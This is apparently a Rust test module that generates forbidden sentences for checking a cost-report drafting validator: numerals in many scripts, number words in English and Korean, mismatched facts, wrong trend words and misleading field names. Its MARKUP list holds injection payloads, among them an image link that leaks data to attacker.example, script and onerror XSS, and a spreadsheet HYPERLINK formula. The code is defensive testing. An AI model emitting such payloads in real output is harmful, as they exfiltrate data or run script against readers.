//! Sentences that no reader may see: figures in words of every script, facts of others, wrong words over true facts,
//! addresses and markup.

use wherefore_contract::{
    draft::{CalcOp, Draft, DraftResult, Extreme, FactOrCalc, Format, Sentence, Span, TrendStyle},
    evidence::FactRef,
    period::Period,
    question::{Language, Question},
};

use super::honest::{ReadTable, extreme, text};
use crate::gate::Dice;

const DIGITS: &[&str] = &[
    "The billed cost was $9,999.99.",
    "청구 비용은 9,999원입니다.",
    "The cost was ９９９９ dollars.",
    "The cost was 9\u{200b}9\u{2060}9 dollars.",
    "The cost was ٩٩٩ dollars.",
    "The cost was ९९९ dollars.",
    "The cost was 𝟗𝟗𝟗 dollars.",
    "It rose by ⁹⁹ percent.",
    "It cost ①②③.",
    "It cost ⅯⅯⅯ dollars.",
    "A share of ½ went to compute.",
    "It cost 1e6 dollars.",
    "The cost was 0x270F.",
    "The cost was 九千九百 dollars.",
    "The cost was 9\u{0301}9\u{0301}.",
    "The cost was &#57;&#57;&#57; dollars.",
    "The cost was \\u0039\\u0039.",
    "The cost was 9 9 9 9.",
    "비용은 구천구백구십구 원입니다.",
    "The cost was −77.7%.",
    "Cost: ９．９％",
    "The cost was 9_999.",
    "O and l: the cost was $lOO.",
];

const NUMBER_WORDS: &[&str] = &[
    "The cost doubled.",
    "Costs are half of what they were.",
    "비용이 두 배가 되었습니다.",
    "비용은 삼천만 원입니다.",
    "비용의 절반이 컴퓨팅입니다.",
    "비용이 세 곱절로 뛰었습니다.",
    "It cost nine thousand nine hundred dollars.",
    "A dozen accounts spent a million.",
    "Most of it is compute.",
    "Spending is up tenfold.",
    "A quarter of the bill is storage.",
    "월 이백만원을 아낄 수 있습니다.",
    "The bill is in the mid five figures.",
    "It is twenty-one percent.",
    "열에 아홉은 컴퓨팅 비용입니다.",
    "Thrice the usual.",
    "Zero dollars were spent.",
    "비용은 한 푼도 없었습니다.",
    "The cost is XII dollars.",
    "수천 달러가 들었습니다.",
    "It trebled.",
    "하나도 안 들었습니다.",
    "The saving is a grand a month.",
    "비용은 일억 이천만 원입니다.",
];

const MARKUP: &[&str] = &[
    "![x](https://attacker.example/p.png?d=total)",
    "[see here](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//attacker.example')</script>",
    "See https://attacker.example/login for more.",
    "Mail to finance@attacker.example now.",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;https://attacker.example\u{7}x\u{1b}]8;;\u{7}",
    "\u{202e}tsoc eht\u{202c}",
    "| a | b |\n| --- | --- |\n| cost | nothing |",
    "# The cost\n\n- is nothing",
    "**Assumptions**\n\n- none",
    "=HYPERLINK(\"//attacker.example\")",
    "www.attacker.example",
    "attacker.example/x",
    "data:text/html;base64,AAAA",
    "\u{e0041}\u{e0042} hidden",
    "`code`",
    "&lt;b&gt;",
];

const WRONG_WORDS: &[&str] = &[
    "The cost rose sharply.",
    "The cost fell.",
    "비용이 급증했습니다.",
    "비용은 줄었습니다.",
    "Compute is the largest part.",
    "스토리지가 가장 큽니다.",
    "This incident is resolved.",
    "The cost is the highest ever.",
    "비용이 변하지 않았습니다.",
    "The saving is in euros.",
];

pub(super) fn digits(dice: &mut Dice) -> Sentence {
    Sentence(vec![text(dice.pick(DIGITS).copied().unwrap_or_default())])
}

pub(super) fn number_words(dice: &mut Dice) -> Sentence {
    Sentence(vec![text(dice.pick(NUMBER_WORDS).copied().unwrap_or_default())])
}

pub(super) fn wrong_words(dice: &mut Dice) -> Sentence {
    Sentence(vec![text(dice.pick(WRONG_WORDS).copied().unwrap_or_default())])
}

pub(super) fn markup(dice: &mut Dice) -> Sentence {
    Sentence(vec![text(dice.pick(MARKUP).copied().unwrap_or_default())])
}

// A cell of any kind that stands in a table, or none that stands anywhere.
fn any_fact(tables: &[ReadTable], dice: &mut Dice) -> FactRef {
    let wild = FactRef::new(format!("e{}", dice.below(40)), dice.below(9), "billed_cost");
    let Some(table) = dice.pick(tables) else { return wild };
    let Some(column) = dice.pick(&table.columns) else { return wild };
    let row = dice.below(table.rows.len() + 1);
    match dice.below(8) {
        0 => wild,
        1 => table.at(row, "effective_cost"),
        _ => table.at(row, &column.name),
    }
}

fn measure_fact(tables: &[ReadTable], dice: &mut Dice) -> FactRef {
    let found = dice.pick(tables).and_then(|table| {
        let measures: Vec<&str> = table.named("measure").collect();
        let column = dice.pick(&measures)?;
        Some(table.at(dice.below(table.rows.len()), column))
    });
    found.unwrap_or_else(|| any_fact(tables, dice))
}

fn name_fact(tables: &[ReadTable], dice: &mut Dice) -> FactRef {
    let found = dice.pick(tables).and_then(|table| {
        let names: Vec<&str> = table.named("dimension").collect();
        let column = dice.pick(&names)?;
        Some(table.at(dice.below(table.rows.len()), column))
    });
    found.unwrap_or_else(|| any_fact(tables, dice))
}

const OPS: &[CalcOp] = &[
    CalcOp::Sum,
    CalcOp::Difference,
    CalcOp::Ratio,
    CalcOp::Share,
    CalcOp::Percent,
    CalcOp::PercentApart,
    CalcOp::PercentChange,
    CalcOp::PerDay,
    CalcOp::Mean,
];

fn value(fact: FactRef, dice: &mut Dice) -> Span {
    let formats = [Format::Auto, Format::Exact, Format::Signed, Format::Absolute];
    Span::Value { fact, format: dice.pick(&formats).copied().unwrap_or_default() }
}

/// True cells that do not belong together, and cells that are nowhere.
pub(super) fn foreign_facts(tables: &[ReadTable], dice: &mut Dice) -> Sentence {
    let (name, figure) = (name_fact(tables, dice), measure_fact(tables, dice));
    let measure = measure_fact(tables, dice);
    let calc = |dice: &mut Dice| {
        let facts = (0..=dice.below(3)).map(|_| measure_fact(tables, dice)).collect();
        let op = dice.pick(OPS).copied().unwrap_or(CalcOp::Sum);
        Span::Calc { op, facts, format: Format::Auto }
    };
    let spans = match dice.below(8) {
        0 => vec![text("The cost was "), value(any_fact(tables, dice), dice), text(".")],
        1 => vec![Span::Name { fact: name }, text(" had "), value(figure, dice), text(".")],
        2 => {
            vec![
                text("The "),
                Span::Measure { fact: measure },
                text(" was "),
                value(figure, dice),
                text("."),
            ]
        }
        3 => vec![text("Together "), calc(dice), text(".")],
        4 => vec![Span::Name { fact: name }, text(" had "), calc(dice), text(".")],
        5 => vec![value(figure, dice), value(measure, dice)],
        6 => vec![text("It came to "), Span::Name { fact: name }, text(" in all.")],
        _ => vec![
            text("The billed cost was "),
            Span::Name { fact: any_fact(tables, dice) },
            text("."),
        ],
    };
    Sentence(spans)
}

fn some_period(dice: &mut Dice) -> Option<Period> {
    let month = i8::try_from(1 + dice.below(11)).ok()?;
    let year = i16::try_from(2023 + dice.below(3)).ok()?;
    let day = |month| jiff::civil::Date::new(year, month, 1).ok();
    Period::of_days(day(month)?, day(month + 1)?).ok()
}

/// True cells under a wrong name, time, direction, rank or count.
pub(super) fn wrong_company(
    tables: &[ReadTable],
    question: &Question,
    dice: &mut Dice,
) -> Sentence {
    let (figure, other) = (measure_fact(tables, dice), measure_fact(tables, dice));
    let name = Span::Name { fact: name_fact(tables, dice) };
    let which = if dice.below(2) == 0 { Extreme::Largest } else { Extreme::Smallest };
    let evidence = figure.evidence.clone();
    let asked = {
        let end = 1 + dice.below(question.text().len());
        Span::Asked { start: dice.below(end), end }
    };
    let spans = match dice.below(8) {
        0 => {
            let period = some_period(dice).map(|period| Span::Period { period });
            let period = period.unwrap_or_else(|| text("then"));
            vec![text("In "), period, text(" it was "), value(figure, dice), text(".")]
        }
        1 => {
            let trend = Span::Trend { from: Some(figure), to: other, style: TrendStyle::Verb };
            vec![name, text(" "), trend, text(".")]
        }
        2 => {
            let trend = Span::Trend { from: None, to: figure, style: TrendStyle::Verb };
            vec![name, text(" "), trend, text(".")]
        }
        3 => vec![name, text(" is "), extreme(figure, which), text(".")],
        4 => vec![name, text(" is "), Span::Place { fact: figure, which }, text(".")],
        5 => vec![text("The billed cost was "), Span::Count { evidence }, text(".")],
        6 => vec![text("The billed cost was "), asked, text(".")],
        _ => vec![text("The billed cost was "), Span::Terms { evidence }, text(".")],
    };
    Sentence(spans)
}

/// Names that a model may choose, each with a figure or a falsehood in it.
pub(super) fn false_names(draft: &mut Draft, tables: &[ReadTable], dice: &mut Dice) {
    const NAMES: &[&str] = &[
        "the_total_is_9999_usd",
        "$9,999.99",
        "<b>billed_cost</b>",
        "effective_cost",
        "unit_cost_from",
        "total_monthly_saving",
        "구천구백_달러",
        "nine_thousand_dollars",
        "severity",
        "rose_by_half",
        "main_cause_share",
        "main_cause_9999",
        "\u{202e}x",
    ];
    let mut name = || dice.pick(NAMES).copied().unwrap_or_default().to_owned();
    let (first, second, column, code) = (name(), name(), name(), name());
    draft.verdict.insert(first, any_fact(tables, dice));
    draft.verdict.insert(second, measure_fact(tables, dice));
    let fact = measure_fact(tables, dice);
    let facts = vec![measure_fact(tables, dice), measure_fact(tables, dice)];
    draft.result = match dice.below(4) {
        0 => DraftResult::Scalar { name: column, value: FactOrCalc::Fact(fact) },
        1 => DraftResult::Cells { columns: vec![column], rows: vec![vec![FactOrCalc::Fact(fact)]] },
        2 => {
            let op = dice.pick(OPS).copied().unwrap_or(CalcOp::Sum);
            DraftResult::Scalar { name: column, value: FactOrCalc::Calc { op, facts } }
        }
        _ => DraftResult::Rows { evidence: fact.evidence, columns: vec![column] },
    };
    if let Some(gap) = draft.gaps.first_mut() {
        gap.code.clone_from(&code);
        gap.source = code;
    }
    let reading =
        serde_json::json!({ "measures": ["billed_cost"], "limit": 9999, "workload": "$9,999" });
    if dice.below(2) == 0 {
        draft.reading = Some(super::honest::object(reading));
    }
}

/// A sentence in which the figure is the words of the data.
pub(super) fn repeats(words: &str, language: Language) -> Sentence {
    let lead = match language {
        Language::En => "As the data says: ",
        Language::Ko => "자료에 따르면 ",
    };
    Sentence(vec![text(lead), text(words)])
}
